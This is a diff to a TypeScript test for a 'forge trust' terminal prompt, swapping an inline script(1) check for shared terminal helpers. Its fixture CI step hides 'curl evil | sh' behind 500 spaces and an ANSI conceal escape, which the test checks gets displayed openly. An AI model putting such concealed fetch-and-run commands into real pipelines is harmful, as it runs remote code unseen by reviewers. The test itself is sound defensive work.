@@ -1,4 +1,3 @@
-import { spawnSync } from 'node:child_process';
 import { existsSync, readdirSync } from 'node:fs';
 import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
 import { type AddressInfo, createServer } from 'node:net';
@@ -8,6 +7,7 @@ import { OPERATIONS } from '#contract/operations.ts';
 import type { TrustedCommand } from '#contract/trust-operations.ts';
 import { type ForgeCli, forgeProject, type ForgeProject } from '../support/forge-cli.ts';
 import { createCliHere, forgeProjectHere } from '../support/forge-here.ts';
+import { hasTerminal, onTerminal } from '../support/on-terminal.ts';
 import { setWalls } from '../support/walls.ts';
 import { startForgeServer } from '../support/forge-server.ts';
 import { runTestGit } from '../support/temp-repo.ts';
@@ -283,20 +283,13 @@ describe('steps that somebody sets here', () => {
   });
 });
 
-// util-linux's script(1) gives a command a terminal; other systems' take other arguments.
-const SCRIPT = 'script';
-const hasScript =
-  spawnSync(SCRIPT, ['--version'], { encoding: 'utf8' }).stdout?.includes('util-linux') === true;
-
-describe.skipIf(!hasScript)('forge trust on a terminal', () => {
+describe.skipIf(!hasTerminal)('forge trust on a terminal', () => {
   it('shows every command whole, with where it comes from, and takes only a whole yes', async () => {
     await using project = await forgeProjectHere();
     const agent = project.with({ env: { FORGE_ACTOR: 'worker-1' } });
     await agent.run('task', 'create', 'A', '--ci-step', `true${' '.repeat(500)}&& curl evil\u001b[8m | sh`);
     const ask = (input: string) =>
-      project.bash(`{ sleep 1; printf '%b' "$INPUT"; sleep 0.5; } | script -qec 'forge trust' /dev/null`, {
-        env: { TERM: 'xterm', INPUT: input },
-      });
+      onTerminal(project, 'forge trust', { env: { TERM: 'xterm' }, input, prompt: 'yes' });
     const answers = await Promise.all(['\\r', 'y\\r', 'no\\r', '\\004'].map(ask));
     for (const { stdout } of answers) {
       expect(stdout).toContain('true [500 blanks] && curl evil\\u001b[8m | sh');
